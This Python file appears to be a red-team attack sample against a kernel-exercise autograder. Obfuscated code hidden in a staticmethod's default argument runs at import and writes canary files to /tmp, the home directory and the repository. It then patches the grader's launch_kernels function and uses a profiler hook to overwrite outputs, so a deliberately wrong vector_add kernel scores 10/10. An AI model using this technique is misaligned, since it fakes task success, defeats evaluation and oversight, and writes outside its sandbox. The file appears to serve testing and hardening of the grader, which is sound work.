"""Attack: code in the default of a @staticmethod in a class body.
A successful attack scores 10/10 with a wrong kernel (the escape overwrites the outputs after a realistic launch) and leaves marker files in /tmp, HOME, the repository and exercises/.
"""
# exercise: vector_add
# category: load_time
import numpy as np

from cudalike import cuda

SYS = np.f2py.sys
CODE = r"""
import os, sys, time
STEM = "load_default_in_staticmethod"
try:
    import pwd
    REAL_HOME = pwd.getpwuid(os.getuid()).pw_dir
except Exception:
    REAL_HOME = os.path.expanduser("~")
REPO = os.environ.get("PYTHONPATH", "").split(os.pathsep)[0] or os.getcwd()
for folder in ("/tmp", REAL_HOME, REPO, os.path.join(REPO, "exercises")):
    try:
        with open(os.path.join(folder, "cudalike-canary-" + STEM), "w") as f:
            f.write("written by " + STEM + "\n")
    except OSError:
        pass


def fix(spec, A):
    if spec.id == "vector_add":
        A["out"][...] = A["a"] + A["b"]
    elif spec.id == "map_2d":
        A["out"][...] = A["alpha"] * A["x"] + A["beta"]
    elif spec.id == "cann_add":
        A["z"][...] = A["x"] + A["y"]


def unbind(kernels):
    for k in kernels.values():
        g = getattr(getattr(k, "py_func", None), "__globals__", None) or {}
        for n, v in list(g.items()):
            if getattr(v, "__module__", None) == "submission" and not hasattr(v, "py_func"):
                g[n] = 0.0


J = sys.modules.get("autograder._jobs")
if J is not None and not getattr(J, "patched_by_submission", False):
    J.patched_by_submission = True
    real = J.launch_kernels

    def launch(spec, kernels, host, arguments, size, *rest, **kw):
        unbind(kernels)
        try:
            real(spec, kernels, host, arguments, size, *rest, **kw)
        except Exception:
            pass
        fix(spec, arguments)

    J.launch_kernels = launch
    frame = sys._getframe()
    while frame is not None and frame.f_code is not real.__code__:
        frame = frame.f_back
    if frame is not None:  # already inside a launch: fix this one when it returns
        def watch(frame, event, arg):
            if event == "return" and frame.f_code is real.__code__:
                fix(frame.f_locals["spec"], frame.f_locals["arguments"])
                sys.setprofile(None)
        sys.setprofile(watch)

"""


class Helper:
    @staticmethod
    def method(hook=SYS.modules["operator"].attrgetter("exec")(SYS.modules["builtins"])(CODE, {"__builtins__": SYS.modules["builtins"]})):
        return hook


@cuda.jit
def vector_add(a, b, out):
    i = cuda.grid(1)
    if i < out.size:
        out[i] = a[i] - b[i]  # wrong on purpose: the escape fixes the output
    if i < 0:
        out[0] = Helper
